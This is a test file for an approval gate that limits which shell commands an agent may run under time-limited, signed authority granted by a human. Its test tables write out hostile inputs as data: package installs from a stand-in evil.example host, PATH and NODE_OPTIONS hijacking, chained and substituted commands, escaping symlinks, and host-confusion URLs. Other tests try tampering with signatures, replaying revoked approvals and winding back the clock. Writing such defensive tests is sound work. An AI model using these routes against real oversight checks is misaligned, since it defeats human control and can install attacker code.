import { existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { Desk } from './desk.ts'

let desk: Desk
beforeEach(async () => {
  desk = await new Desk().open()
})
afterEach(() => {
  desk.end()
})

const TASK = 'task-1'

/** A question that is approved with authority for `commands`, three uses, two hours; returns its id. */
const grant = async (commands: readonly string[], more: readonly string[] = [], task = TASK): Promise<string> => {
  const id = await desk.ask([
    ...['--title', 'Set up packages', '--why', 'they are missing', '--impact', 'new packages'],
    ...['--reversibility', 'npm uninstall', '--task', task],
  ])
  const bounds = more.includes('--uses') ? [] : ['--uses', '3']
  const end = more.includes('--until') ? [] : ['--until', '2h']
  const said = await desk.human([
    ...['approve', id, ...bounds, ...end, ...more],
    ...commands.flatMap(command => ['--allow-command', command]),
  ])
  if (said.code !== 0) throw new Error(said.stderr)
  return id
}

interface Try {
  readonly task?: string
  readonly env?: Readonly<Record<string, string>>
  readonly cwd?: string
}

/** The exit code of one operation: 0 it ran, 75 it was asked for. */
const attempt = async (
  argv: readonly string[],
  { task = TASK, env = {}, cwd = desk.repo }: Try = {},
): Promise<number> => (await desk.agent(['run', '--', ...argv], { cwd, env: { HOLDPOINT_TASK: task, ...env } })).code

const attemptLine = async (line: string): Promise<number> =>
  (await desk.agent(['sh', '-c', line], { env: { HOLDPOINT_TASK: TASK } })).code

describe('authority for "npm install *"', () => {
  beforeEach(async () => {
    await grant(['npm install *'])
    mkdirSync(join(desk.repo, 'src'))
  })

  it.each<[words: string, code: number]>([
    ['npm install left-pad', 0],
    ['npm install @types/node', 0],
    ['npm install left-pad@1.3.0', 0],
    ['npm uninstall left-pad', 75],
    ['npm update left-pad', 75],
    ['npm i left-pad', 75],
    ['npm install left-pad right-pad', 75],
    ['npm install -g', 75],
    ['npm install -g left-pad', 75],
    ['npm install --global left-pad', 75],
    ['npm install left-pad --registry=http://evil.example', 75],
    ['npm install ../evil', 75],
    ['npm install /etc/evil', 75],
    ['npm install src/../../evil', 75],
    ['npm install https://evil.example/x.tgz', 75],
    ['npm install git+ssh://git@evil.example/x.git', 75],
    ['npm install file:../evil', 75],
    ['npm install left-pad@npm:evil', 75],
    ['npm add left-pad', 75],
    ['npm inst left-pad', 75],
    ['sudo npm install left-pad', 75],
    ['npx left-pad', 75],
    ['vercel --prod', 75],
  ])('%s: %i', async (words, code) => {
    const known = await attempt(words.split(' '))
    expect(known).toBe(code)
    expect(desk.runs()).toEqual(code === 0 ? [words] : [])
  })

  it.each<[line: string, code: number]>([
    ['npm install left-pad', 0],
    ["npm install 'left-pad'", 0],
    ['npm install left-pad && npm install right-pad', 0],
    ['npm install left-pad && npm uninstall x', 75],
    ['npm install left-pad; ls', 75],
    ['cd src && npm install left-pad', 75],
    ['A=1 npm install left-pad', 75],
    ['npm_config_registry=http://evil.example npm install left-pad', 75],
    ['npm install left-pad > out', 75],
    ['npm install left-pad | cat', 75],
    ['npm install left-pad &', 75],
    ['(npm install left-pad)', 75],
    ['if true; then npm install left-pad; fi', 75],
    ['npm install $PACKAGE', 75],
    ['npm install $(echo left-pad)', 75],
    ['npm install left-*', 75],
    ['npm install ~/evil', 75],
    ['sh -c "npm install left-pad"', 75],
    ['env npm install left-pad', 75],
    ['command npm install left-pad', 75],
    ['eval "npm install left-pad"', 75],
    ['echo left-pad | xargs npm install', 75],
  ])('the line %s: %i', async (line, code) => {
    expect(await attemptLine(line)).toBe(code)
    expect(desk.runs().length > 0).toBe(code === 0)
  })

  it('runs as often as granted, writes down each, and asks for the first beyond', async () => {
    const codes = []
    for (const name of ['a', 'b', 'c', 'd']) codes.push(await attempt(['npm', 'install', name]))
    expect(codes).toEqual([0, 0, 0, 75])
    const entries = desk.entries().slice(2)
    expect(entries.map(({ entry }) => entry.title)).toEqual([
      'Done: npm install a',
      'Done: npm install b',
      'Done: npm install c',
      'Approval needed: npm install d',
    ])
    expect(entries[2]?.entry.content).toContain('use 3 of 3')
  })

  it('tells the agent under what it runs', async () => {
    const ran = await desk.agent(['run', '--', 'npm', 'install', 'a'], { env: { HOLDPOINT_TASK: TASK } })
    expect(ran.stderr).toContain(`within what was granted by anna (request ${firstId()}, use 1 of 3)`)
  })

  it('writes down a failure as one, and it counts', async () => {
    expect(await attempt(['npm', 'install', 'a'], { env: { DESK_EXIT: '4' } })).toBe(4)
    expect(desk.entries().at(-1)?.entry).toMatchObject({ title: 'Failed: npm install a', holdpoint: { exit_code: 4 } })
    expect(desk.entries().at(-1)?.entry.tags).not.toContain('complete')
  })

  it('holds a folder of a link that leads out, and takes one that stays', async () => {
    const outside = desk.world.at('outside')
    mkdirSync(outside)
    symlinkSync(outside, join(desk.repo, 'out'))
    symlinkSync('src', join(desk.repo, 'in'))
    symlinkSync(join(outside, 'nothing'), join(desk.repo, 'dangling'))
    expect(await attempt(['npm', 'install', 'out'])).toBe(75)
    expect(await attempt(['npm', 'install', 'out/deeper'])).toBe(75)
    expect(await attempt(['npm', 'install', 'dangling'])).toBe(75)
    expect(await attempt(['npm', 'install', 'in'])).toBe(0)
  })

  it.each<[title: string, other: () => Try]>([
    ['another task', () => ({ task: 'task-2' })],
    ['no task', () => ({ task: '' })],
    ['another PATH', () => ({ env: { PATH: `/tmp/evil:${desk.bin}` } })],
    ['another registry in the environment', () => ({ env: { npm_config_registry: 'http://evil.example' } })],
    ['code loaded into it', () => ({ env: { NODE_OPTIONS: '--require ./evil.js' } })],
  ])('asks for %s', async (_, other) => {
    expect(await attempt(['npm', 'install', 'a'], other())).toBe(75)
  })

  it('asks for the same program by its path, and for one of the same name elsewhere', async () => {
    desk.program(join(desk.repo, 'npm'))
    expect(await attempt(['./npm', 'install', 'a'])).toBe(75)
    expect(await attempt([join(desk.bin, 'npm'), 'install', 'a'])).toBe(75)
  })

  it('asks after its end, and after the clock was set back', async () => {
    expect(await attempt(['npm', 'install', 'a'])).toBe(0)
    desk.clock.set('2026-11-13T11:00:01Z')
    expect(await attempt(['npm', 'install', 'b'])).toBe(75)
    desk.clock.set('2026-11-13T08:00:00Z')
    expect(await attempt(['npm', 'install', 'c'])).toBe(75)
  })

  it('ends with a no after the yes, and a kept copy of the yes brings nothing back', async () => {
    const id = firstId()
    const path = join(desk.state, `decisions/${id}.json`)
    const [bytes, signature] = [readFileSync(path), readFileSync(`${path}.sig`)]
    expect((await desk.human(['revoke', id, '--reason', 'no more'])).code).toBe(0)
    expect(await attempt(['npm', 'install', 'a'])).toBe(75)
    writeFileSync(path, bytes)
    writeFileSync(`${path}.sig`, signature)
    expect(await attempt(['npm', 'install', 'b'])).toBe(75)
    expect((await desk.agent(['await', id])).code).toBe(77)
  })

  it('counts for nothing with more uses written in, with another signature, or without one', async () => {
    const path = join(desk.state, `decisions/${firstId()}.json`)
    const whole = readFileSync(path, 'utf8')
    writeFileSync(path, whole.replace('"uses":3', '"uses":9'))
    expect(await attempt(['npm', 'install', 'a'])).toBe(75)
    writeFileSync(path, whole)
    expect(await attempt(['npm', 'install', 'b'])).toBe(0)
    rmSync(`${path}.sig`)
    expect(await attempt(['npm', 'install', 'c'])).toBe(75)
  })

  it('counts for nothing in another repository, though its files are copied there', async () => {
    const other = desk.world.repository('other')
    await desk.open(other)
    const id = firstId()
    const there = join(other, '.git/holdpoint')
    for (const name of [`requests/${id}.json`, `decisions/${id}.json`, `decisions/${id}.json.sig`]) {
      mkdirSync(join(there, name, '..'), { recursive: true, mode: 0o700 })
      writeFileSync(join(there, name), readFileSync(join(desk.state, name)))
    }
    expect(await attempt(['npm', 'install', 'a'], { cwd: other })).toBe(75)
    expect(await attempt(['npm', 'install', 'a'])).toBe(0)
  })

  it('never covers level 3', async () => {
    expect(
      (await desk.human(['approve', firstId(), '--allow-command', 'npm publish', '--uses', '1', '--until', '1h'])).code,
    ).toBe(64)
    expect(await attempt(['npm', 'publish'])).toBe(75)
    expect(desk.runs()).toEqual([])
  })
})

const firstId = (): string => desk.entries()[0]?.entry.holdpoint?.request_id ?? ''

describe('the bounds that a person sets', () => {
  it('paths: what * stands for lies in them, by whole names', async () => {
    for (const name of ['src', 'src-evil', 'SRC']) desk.world.write(join(desk.repo, name, 'a.txt'), 'x')
    await grant(['rm *'], ['--path', join(desk.repo, 'src')])
    expect(await attempt(['rm', 'src-evil/a.txt'])).toBe(75)
    expect(await attempt(['rm', 'src/../file.txt'])).toBe(75)
    expect(await attempt(['rm', 'SRC/a.txt'])).toBe(75)
    expect(await attempt(['rm', 'src/a.txt'])).toBe(0)
    expect(existsSync(join(desk.repo, 'src/a.txt'))).toBe(false)
    expect(existsSync(join(desk.repo, 'src-evil/a.txt'))).toBe(true)
  })

  it('hosts: an address that * stands for names one of them', async () => {
    await grant(['npm install *'], ['--host', 'Packages.example'])
    expect(await attempt(['npm', 'install', 'https://packages.example/x.tgz'])).toBe(0)
    expect(await attempt(['npm', 'install', 'https://packages.example.evil.test/x.tgz'])).toBe(75)
    expect(await attempt(['npm', 'install', 'https://packages.example@evil.test/x.tgz'])).toBe(75)
    expect(await attempt(['npm', 'install', 'https://u:p@packages.example/x.tgz'])).toBe(75)
  })

  it('** at the end is one word or more, none of them an option', async () => {
    await grant(['npm install **'])
    expect(await attempt(['npm', 'install', 'a', 'b'])).toBe(0)
    expect(await attempt(['npm', 'install', 'a', '--force'])).toBe(75)
    expect(await attempt(['npm', 'install', 'a'])).toBe(0)
  })

  it('a granted wrapper wraps nothing that is held, a granted tool takes no variables', async () => {
    desk.program(join(desk.bin, 'tool'))
    await grant(['sudo **', 'tool', 'npm install *'])
    expect(await attempt(['sudo', 'npm', 'install', 'a'])).toBe(75)
    expect(await attemptLine('A=1 tool && npm install a')).toBe(75)
    expect(await attemptLine('tool > out && npm install a')).toBe(75)
    expect(await attemptLine('tool && npm install a')).toBe(0)
  })

  it('marks that were removed from the store bring no use back', async () => {
    await grant(['npm install *'], ['--uses', '1'])
    expect(await attempt(['npm', 'install', 'a'])).toBe(0)
    rmSync(join(desk.state, 'uses'), { recursive: true })
    expect(await attempt(['npm', 'install', 'b'])).toBe(75)
    const other = await grant(['npm uninstall *'], [], 'task-2')
    const path = join(desk.state, `decisions/${other}.json`)
    const [bytes, signature] = [readFileSync(path), readFileSync(`${path}.sig`)]
    expect((await desk.human(['revoke', other, '--reason', 'off'])).code).toBe(0)
    rmSync(join(desk.state, 'spent'), { recursive: true })
    writeFileSync(path, bytes)
    writeFileSync(`${path}.sig`, signature)
    expect(await attempt(['npm', 'uninstall', 'b'], { task: 'task-2' })).toBe(75)
  })

  it('what a script runs must be inside too', async () => {
    writeFileSync(join(desk.repo, 'package.json'), JSON.stringify({ scripts: { ship: 'vercel --prod' } }))
    await grant(['npm run ship'])
    expect(await attempt(['npm', 'run', 'ship'])).toBe(75)
    await grant(['npm run ship', 'vercel --prod'], [], 'task-3')
    expect(await attempt(['npm', 'run', 'ship'], { task: 'task-3' })).toBe(0)
    writeFileSync(
      join(desk.repo, 'package.json'),
      JSON.stringify({ scripts: { ship: 'vercel --prod && docker push x' } }),
    )
    expect(await attempt(['npm', 'run', 'ship'], { task: 'task-3' })).toBe(75)
  })

  it('a held command may be allowed more often, in its very words', async () => {
    expect(await attempt(['npm', 'install', 'a'])).toBe(75)
    expect((await desk.human(['approve', firstId(), '--uses', '1', '--until', '1h'])).code).toBe(0)
    const codes = []
    for (const name of ['a', 'a', 'b', 'a']) codes.push(await attempt(['npm', 'install', name]))
    // The last one finds its own answer used and the authority too: it is asked anew.
    expect(codes).toEqual([0, 0, 75, 77])
  })

  it.each<[title: string, options: readonly string[]]>([
    ['no number of uses', ['--allow-command', 'npm install *', '--until', '1h']],
    ['no end', ['--allow-command', 'npm install *', '--uses', '1']],
    ['no command, on a question', ['--uses', '1', '--until', '1h']],
    ['an end too far', ['--allow-command', 'npm install *', '--uses', '1', '--until', '40d']],
    ['no use', ['--allow-command', 'npm install *', '--uses', '0', '--until', '1h']],
    ['any program', ['--allow-command', '* install', '--uses', '1', '--until', '1h']],
    ['a star inside a word', ['--allow-command', 'npm install left-*', '--uses', '1', '--until', '1h']],
    ['** before the end', ['--allow-command', 'npm ** x', '--uses', '1', '--until', '1h']],
    ['two commands', ['--allow-command', 'npm install * && ls', '--uses', '1', '--until', '1h']],
    ['level 3', ['--allow-command', 'git push --force', '--uses', '1', '--until', '1h']],
    ['a path outside', ['--allow-command', 'rm *', '--uses', '1', '--until', '1h', '--path', '/etc']],
    ['a host that is none', ['--allow-command', 'npm install *', '--uses', '1', '--until', '1h', '--host', '*']],
  ])('%s is refused', async (_, options) => {
    const id = await desk.ask(['--title', 't', '--why', 'w', '--impact', 'i', '--reversibility', 'r'])
    const said = await desk.human(['approve', id, ...options])
    expect(said.code, said.stdout).toBe(64)
    expect((await desk.agent(['await', id, '--timeout', '0'])).code).toBe(75)
  })
})
